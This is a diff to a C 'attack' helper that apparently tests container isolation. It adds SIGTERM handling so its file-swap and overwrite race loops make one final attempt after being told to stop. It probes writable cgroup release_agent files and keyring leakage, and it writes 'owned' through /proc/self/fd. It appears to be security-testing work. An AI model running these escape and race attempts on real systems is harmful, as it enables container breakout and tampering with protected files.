@@ -11,11 +11,14 @@
  *     attack keyring-find          looks for that key in its own session keyring
  *     attack keyring-run PROGRAM.. runs a program with a session keyring that has such a key
  *     attack release-agent         looks for a writable release_agent below /sys/fs/cgroup
+ *
+ * SIGTERM ends the first three before their time, after a last try.
  */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -29,9 +32,17 @@
 #define RENAME_EXCHANGE 2
 #endif
 
+static volatile sig_atomic_t told_to_end;
+
+static void end_soon(int signal)
+{
+	(void)signal;
+	told_to_end = 1;
+}
+
 static int until(time_t end)
 {
-	return time(NULL) < end;
+	return !told_to_end && time(NULL) < end;
 }
 
 static int swap(const char *a, const char *b, time_t end)
@@ -74,9 +85,12 @@ static void overwrite(const char *name, const char *pid, time_t end)
 		return;
 	printf("reached %s\n", target);
 	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
-	while (until(end)) {
-		int fd = open(path, O_WRONLY);
+	for (int more = 1; more;) {
+		int fd;
 
+		/* Once more when it is over: who was in the way is gone by then. */
+		more = until(end);
+		fd = open(path, O_WRONLY);
 		if (fd >= 0) {
 			(void)!write(fd, "owned", 5);
 			printf("WROTE %s\n", target);
@@ -185,6 +199,8 @@ int main(int argc, char **argv)
 {
 	const char *what = argc > 1 ? argv[1] : "";
 
+	/* Process 1 of a container hears only what it has a handler for. */
+	(void)signal(SIGTERM, end_soon);
 	if (strcmp(what, "swap") == 0 && argc == 5)
 		return swap(argv[2], argv[3], time(NULL) + atoi(argv[4]));
 	if (strcmp(what, "overwrite") == 0 && argc == 4)
